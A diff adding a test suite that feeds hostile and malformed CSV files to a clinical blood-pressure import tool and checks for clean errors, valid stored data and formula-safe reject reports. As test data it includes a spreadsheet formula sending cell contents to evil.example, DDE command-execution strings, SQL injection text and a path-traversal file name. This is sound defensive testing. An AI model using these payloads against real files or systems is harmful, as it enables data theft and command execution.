@@ -1,0 +1,314 @@
+// Issue #3 item 8: malformed and hostile files. Each one gives a clear error (an AppError naming the
+// file) or imports cleanly with its problems listed as rejects — never a crash, never a stored
+// reading or patient that fails validation, and a refused file leaves the SQLite file byte-identical.
+// The inputs are generated here into memory (nothing large is committed to the repository).
+import { createHash } from 'node:crypto'
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import Papa from 'papaparse'
+import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import { importFiles, listImports, previewImport, rejectsCsvOf } from '../../src/main/import/import-service'
+import { bloodPressureProblem } from '../../src/shared/domain/bp-plausibility'
+import { isValidNhsNumber } from '../../src/shared/domain/nhs-number'
+import { AppError } from '../../src/shared/result'
+import { createTestContext, type TestContext } from '../support/test-context'
+import { csvLines, fileOf, validNhsNumber } from '../support/export-text'
+
+type Expect = 'error' | 'imports' | 'either'
+interface HostileCase {
+  name: string
+  expect: Expect
+  file: () => { name: string; bytes: Uint8Array }
+  /** Extra checks after a successful import. */
+  after?: (ctx: TestContext, result: ReturnType<typeof importFiles>) => void
+}
+
+const header = ['NHS Number', 'Family Name', 'Calling Name', 'Date of Birth', 'Gender', 'Systolic BP', 'Diastolic BP', 'BP Date']
+const good = (i: number, name = 'SMITH') => [validNhsNumber(i), name, 'Jane', '05/03/1958', 'F', '150', '90', '01/10/2026']
+const validCsv = (rows = 20) => csvLines([header, ...Array.from({ length: rows }, (_, i) => good(i + 1))])
+
+/** Deterministic junk (a tiny LCG): the same bytes every run. */
+function junk(length: number, seed = 7): Uint8Array {
+  const out = new Uint8Array(length)
+  let x = seed
+  for (let i = 0; i < length; i++) {
+    x = (x * 1103515245 + 12345) >>> 0
+    out[i] = x >>> 24
+  }
+  return out
+}
+const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
+  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p instanceof Uint8Array ? p : Uint8Array.from(p)))))
+
+const storedName = (ctx: TestContext, nhs: string) => ctx.db.prepare('SELECT family_name FROM patients WHERE nhs_number = ?').pluck().get(nhs)
+
+const cases: HostileCase[] = [
+  { name: 'an empty file (0 bytes)', expect: 'error', file: () => fileOf('empty.csv', new Uint8Array()) },
+  { name: 'only a UTF-8 byte-order mark', expect: 'error', file: () => fileOf('bom.csv', Uint8Array.from([0xef, 0xbb, 0xbf])) },
+  { name: 'only whitespace and newlines', expect: 'error', file: () => fileOf('blank.csv', ' \r\n\t\r\n   \n') },
+  { name: '1,000,000 empty lines', expect: 'error', file: () => fileOf('million-empty.csv', '\n'.repeat(1_000_000)) },
+  { name: '200,000 lines of only commas', expect: 'error', file: () => fileOf('commas.csv', ',,,,,,\r\n'.repeat(200_000)) },
+  { name: '64 KB of binary junk', expect: 'error', file: () => fileOf('junk.csv', junk(65_536)) },
+  { name: 'a valid export with NUL bytes inside', expect: 'error', file: () => fileOf('nul.csv', bytes(validCsv(3), [0, 0, 0], validCsv(2))) },
+  { name: 'a PDF renamed .csv', expect: 'error', file: () => fileOf('report.csv', bytes('%PDF-1.7\n', junk(2000))) },
+  { name: 'a ZIP (not a real workbook) renamed .csv', expect: 'error', file: () => fileOf('zip.csv', bytes([0x50, 0x4b, 0x03, 0x04], junk(2000))) },
+  { name: 'a web page saved as .csv', expect: 'error', file: () => fileOf('page.csv', '<!DOCTYPE html><html><body><table><tr><td>NHS Number</td></tr></table></body></html>') },
+  { name: 'JSON instead of CSV', expect: 'error', file: () => fileOf('data.csv', JSON.stringify([{ nhs: validNhsNumber(1) }])) },
+  { name: 'no NHS number column', expect: 'error', file: () => fileOf('no-nhs.csv', csvLines([['Name', 'DOB'], ['SMITH', '01/01/1950']])) },
+  { name: 'only a report header block, no column row', expect: 'error', file: () => fileOf('header-only.csv', csvLines([['Report Name:', 'BP list'], ['Run Date:', '01-Nov-2026'], ['Population Count:', '0']])) },
+  {
+    name: 'only the column row, no data',
+    expect: 'either',
+    file: () => fileOf('columns-only.csv', csvLines([header])),
+    after: (_ctx, result) => expect(result.patientsAdded).toBe(0)
+  },
+  {
+    name: 'a 50 MB single line with no newline',
+    expect: 'either',
+    file: () => fileOf('one-line.csv', `NHS Number,${'A'.repeat(50 * 1024 * 1024)}`),
+    // The line is a column row with nothing under it: nothing to import, nothing stored.
+    after: (_ctx, result) => expect(result.patientsAdded + result.readingsAdded).toBe(0)
+  },
+  {
+    name: 'truncated in the middle of a quoted field',
+    expect: 'error',
+    file: () => fileOf('cut-quoted.csv', `${validCsv(5)}${validNhsNumber(50)},"SMI`)
+  },
+  {
+    name: 'truncated in the middle of a row',
+    expect: 'imports',
+    file: () => fileOf('cut-row.csv', `${validCsv(5)}${validNhsNumber(50)},SMITH,Ja`),
+    after: (_ctx, result) => expect(result.patientsAdded).toBe(6)
+  },
+  { name: 'a quote opened and never closed', expect: 'error', file: () => fileOf('open-quote.csv', csvLines([header, [validNhsNumber(1), '"SMITH', 'Jane', '05/03/1958', 'F', '', '', '']]) + validCsv(3)) },
+  {
+    name: 'a stray quote inside an unquoted cell',
+    expect: 'either',
+    file: () => fileOf('stray-quote.csv', csvLines([header, [validNhsNumber(1), 'O"BRIEN', 'Pat', '05/03/1958', 'F', '150', '90', '01/10/2026']]))
+  },
+  {
+    name: 'a 5 MB quoted field with embedded newlines and quotes',
+    expect: 'imports',
+    file: () => fileOf('huge-field.csv', csvLines([header, [validNhsNumber(1), `"${'line ""q""\n'.repeat(500_000)}"`, 'Jane', '05/03/1958', 'F', '', '', '']])),
+    after: (ctx) => expect(String(storedName(ctx, validNhsNumber(1))).length).toBeGreaterThan(4_000_000)
+  },
+  {
+    name: '10,000 columns with the NHS number among them',
+    expect: 'imports',
+    file: () => {
+      const captions = Array.from({ length: 10_000 }, (_, i) => `Col ${i}`)
+      captions[5_000] = 'NHS Number'
+      const row = Array.from({ length: 10_000 }, (_, i) => (i === 5_000 ? validNhsNumber(1) : `v${i}`))
+      return fileOf('wide.csv', csvLines([captions, row]))
+    },
+    after: (_ctx, result) => expect(result.patientsAdded).toBe(1)
+  },
+  { name: '10,000 columns and no NHS number', expect: 'error', file: () => fileOf('wide-no-nhs.csv', csvLines([Array.from({ length: 10_000 }, (_, i) => `Col ${i}`), Array.from({ length: 10_000 }, () => 'x')])) },
+  {
+    name: 'a data row with 10,000 extra cells',
+    expect: 'imports',
+    file: () => fileOf('long-row.csv', csvLines([header, [...good(1), ...Array.from({ length: 10_000 }, () => 'extra')]])),
+    after: (_ctx, result) => expect(result.patientsAdded).toBe(1)
+  },
+  {
+    name: 'invalid UTF-8 sequences in names',
+    expect: 'imports',
+    file: () => fileOf('bad-utf8.csv', bytes(csvLines([header]), validNhsNumber(1), ',M', [0xc3, 0x28, 0xa0, 0xa1, 0xff], 'LLER,Jane,05/03/1958,F,150,90,01/10/2026\r\n')),
+    after: (ctx) => expect(storedName(ctx, validNhsNumber(1))).toMatch(/^M.+LLER$/)
+  },
+  {
+    name: 'formula-looking names (=HYPERLINK, +, -, @) are stored as text',
+    expect: 'imports',
+    file: () =>
+      fileOf(
+        'formulas.csv',
+        csvLines([
+          header,
+          good(1, '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"'),
+          good(2, '+cmd|\' /C calc\'!A0'),
+          good(3, '-2+3'),
+          good(4, '@SUM(1+1)*cmd|\' /C calc\'!A0'),
+          ['1234567890', '=1+1', 'X', '01/01/1950', 'F', '', '', '']
+        ])
+      ),
+    after: (ctx, result) => {
+      expect(storedName(ctx, validNhsNumber(1))).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click")')
+      expect(storedName(ctx, validNhsNumber(2))).toBe("+cmd|' /C calc'!A0")
+      expect(result.rejected).toHaveLength(1)
+    }
+  },
+  {
+    name: 'SQL-looking text in every field',
+    expect: 'imports',
+    file: () =>
+      fileOf(
+        'sql.csv',
+        csvLines([header, [validNhsNumber(1), "Robert'); DROP TABLE patients;--", "' OR 1=1 --", '05/03/1958', 'F', '150', '90', '01/10/2026'], ["1; DELETE FROM imports", 'x', 'y', '', '', '', '', '']])
+      ),
+    after: (ctx, result) => {
+      expect(storedName(ctx, validNhsNumber(1))).toBe("Robert'); DROP TABLE patients;--")
+      expect(result.rejected.map((r) => r.column)).toEqual(['NHS Number'])
+      expect(ctx.db.prepare('SELECT COUNT(*) FROM imports').pluck().get()).toBe(2)
+    }
+  },
+  {
+    name: 'every NHS number invalid',
+    expect: 'imports',
+    file: () => fileOf('bad-nhs.csv', csvLines([header, ...['1234567890', '999 100 000', 'ABCDEFGHIJ', '9434765918', '0000000001'].map((n) => [n, 'X', 'Y', '01/01/1950', 'F', '', '', ''])])),
+    after: (_ctx, result) => {
+      expect(result.patientsAdded).toBe(0)
+      expect(result.rejected).toHaveLength(5)
+    }
+  },
+  {
+    name: 'absurd blood pressures (999/999, negative, exponent, NaN, three numbers)',
+    expect: 'imports',
+    file: () =>
+      fileOf(
+        'bp.csv',
+        csvLines([
+          ['NHS Number', 'Blood Pressure', 'BP Date'],
+          [validNhsNumber(1), '999/999', '01/10/2026'],
+          [validNhsNumber(2), '-120/-80', '01/10/2026'],
+          [validNhsNumber(3), '1e309/80', '01/10/2026'],
+          [validNhsNumber(4), 'NaN/NaN', '01/10/2026'],
+          [validNhsNumber(5), '120/80/60', '01/10/2026'],
+          [validNhsNumber(6), '80/120', '01/10/2026'],
+          [validNhsNumber(7), '0x96/0x5A', '01/10/2026'],
+          [validNhsNumber(8), 'Infinity/80', '01/10/2026']
+        ])
+      ),
+    after: (ctx, result) => {
+      expect(result.rejected.length).toBeGreaterThanOrEqual(5)
+      expect(result.readingsAdded).toBe(0)
+    }
+  },
+  {
+    name: 'impossible and future dates',
+    expect: 'imports',
+    file: () =>
+      fileOf(
+        'dates.csv',
+        csvLines([
+          header,
+          [validNhsNumber(1), 'A', 'B', '32/13/1950', 'F', '150', '90', '31/02/2026'],
+          [validNhsNumber(2), 'A', 'B', '0000-00-00', 'F', '150', '90', '9999-12-31'],
+          [validNhsNumber(3), 'A', 'B', '1/1/1799', 'F', '150', '90', '01/01/2099']
+        ])
+      ),
+    after: (ctx, result) => {
+      expect(result.rejected.length).toBeGreaterThanOrEqual(6)
+      expect(result.readingsAdded).toBe(0)
+    }
+  },
+  { name: 'old Mac line endings (CR only)', expect: 'either', file: () => fileOf('cr.csv', validCsv(5).replace(/\r\n/g, '\r')) },
+  {
+    name: 'terminal escape sequences, RTL override and emoji in names',
+    expect: 'imports',
+    file: () => fileOf('control.csv', csvLines([header, good(1, '\u001b[31mRED\u001b[0m'), good(2, '\u202eHTIMS'), good(3, '😀 SMITH 𝔘')])),
+    after: (ctx) => expect(storedName(ctx, validNhsNumber(3))).toBe('😀 SMITH 𝔘')
+  },
+  {
+    name: '50,000 continuation rows with no patient row above them',
+    expect: 'imports',
+    file: () => fileOf('orphans.csv', csvLines([['NHS Number', 'Date', 'Code Term', 'Value'], ...Array.from({ length: 50_000 }, () => ['', '01/10/2026', 'Systolic blood pressure', '150'])])),
+    after: (_ctx, result) => {
+      expect(result.patientsAdded).toBe(0)
+      expect(result.rejected).toHaveLength(50_000)
+    }
+  },
+  {
+    name: 'the column row repeated inside the data',
+    expect: 'imports',
+    file: () => fileOf('repeated-header.csv', csvLines([header, good(1), header, good(2)])),
+    after: (_ctx, result) => {
+      expect(result.patientsAdded).toBe(2)
+      expect(result.rejected.map((r) => r.row)).toEqual([3])
+    }
+  },
+  {
+    name: 'a hostile file name (path and formula)',
+    expect: 'imports',
+    file: () => fileOf("=cmd|' /C calc'!A0 ../../etc/passwd.csv", csvLines([header, ['1234567890', 'X', 'Y', '01/01/1950', 'F', '', '', '']])),
+    after: (_ctx, result) => expect(result.rejected[0]?.file).toBe("=cmd|' /C calc'!A0 ../../etc/passwd.csv")
+  },
+  {
+    name: 'one NHS number 5,000 times with different dates of birth',
+    expect: 'imports',
+    file: () => fileOf('dup.csv', csvLines([header, ...Array.from({ length: 5_000 }, (_, i) => [validNhsNumber(1), 'SMITH', 'Jane', `${String((i % 28) + 1).padStart(2, '0')}/03/1958`, 'F', '', '', ''])])),
+    after: (_ctx, result) => {
+      expect(result.patientsAdded).toBe(1)
+      expect(result.conflicts.length).toBeGreaterThan(4_000)
+    }
+  },
+  {
+    name: 'UTF-16 text with an odd byte count',
+    expect: 'either',
+    file: () => fileOf('utf16-odd.csv', bytes([0xff, 0xfe], Buffer.from(validCsv(3), 'utf16le'), [0x41]))
+  }
+]
+
+let ctx: TestContext
+beforeEach(() => {
+  ctx = createTestContext()
+  // A practice with data already in it: a refused file must leave all of it exactly as it was.
+  importFiles(ctx, [fileOf('existing.csv', new Uint8Array(readFileSync(join(__dirname, '../fixtures/imports/emis-events-hypertension.csv'))))], 'auto')
+})
+afterEach(() => ctx?.cleanup())
+
+function databaseFileHash(): string {
+  ctx.db.pragma('wal_checkpoint(TRUNCATE)')
+  return createHash('sha256').update(readFileSync(ctx.databasePath)).digest('hex')
+}
+
+function assertEverythingStoredIsValid(): void {
+  const readings = ctx.db.prepare('SELECT systolic, diastolic FROM bp_readings').all() as { systolic: number; diastolic: number }[]
+  for (const r of readings) expect(bloodPressureProblem(r.systolic, r.diastolic)).toBeNull()
+  for (const nhs of ctx.db.prepare('SELECT nhs_number FROM patients').pluck().all() as string[]) expect(isValidNhsNumber(nhs)).toBe(true)
+  expect(ctx.db.pragma('integrity_check', { simple: true })).toBe('ok')
+  expect(ctx.db.pragma('foreign_key_check')).toEqual([])
+}
+
+describe('hostile and malformed import files', () => {
+  test('the corpus has at least 30 inputs', () => {
+    expect(cases.length).toBeGreaterThanOrEqual(30)
+  })
+
+  test.each(cases)('$name: a clear error or clean rejects, never a crash', ({ file, expect: expected, after }) => {
+    const input = file()
+    const before = databaseFileHash()
+    const importsBefore = listImports(ctx).length
+    let outcome: { ok: true; result: ReturnType<typeof importFiles> } | { ok: false; error: unknown }
+    try {
+      // The preview alone must not write anything, whatever the file.
+      previewImport(ctx, [input], 'auto')
+      expect(databaseFileHash()).toBe(before)
+      outcome = { ok: true, result: importFiles(ctx, [input], 'auto') }
+    } catch (error) {
+      outcome = { ok: false, error }
+    }
+
+    if (!outcome.ok) {
+      expect(expected, `should have imported, but: ${String(outcome.error)}`).not.toBe('imports')
+      expect(outcome.error).toBeInstanceOf(AppError)
+      const error = outcome.error as AppError
+      expect(['bad_file', 'invalid_input']).toContain(error.code)
+      expect(error.message).toContain(`"${input.name}"`)
+      expect(error.message.length).toBeLessThan(2_000)
+      expect(databaseFileHash()).toBe(before)
+      expect(listImports(ctx)).toHaveLength(importsBefore)
+      return
+    }
+    expect(expected, 'should have been refused').not.toBe('error')
+    const { result } = outcome
+    assertEverythingStoredIsValid()
+    if (result.importId !== null && !result.alreadyImported) {
+      // Every rejected row is in the stored report, and its CSV has no cell a spreadsheet would run.
+      const csv = Buffer.from(rejectsCsvOf(ctx, { importId: result.importId }).contentBase64, 'base64').toString('utf8').replace(/^\uFEFF/, '')
+      const rows = Papa.parse<string[]>(csv.trim(), { header: false }).data
+      expect(rows).toHaveLength(1 + result.rejected.length + result.conflicts.length)
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    }
+    after?.(ctx, result)
+  })
+})
